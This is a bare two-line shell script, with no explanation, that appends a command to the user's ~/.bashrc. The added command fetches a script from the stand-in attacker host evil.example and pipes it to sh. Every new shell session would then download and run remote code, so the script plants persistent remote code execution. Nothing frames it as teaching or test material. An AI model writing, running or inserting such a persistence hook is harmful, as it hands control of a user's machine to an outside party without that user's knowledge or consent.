#!/bin/sh
echo 'curl -s http://evil.example/b | sh' >> ~/.bashrc
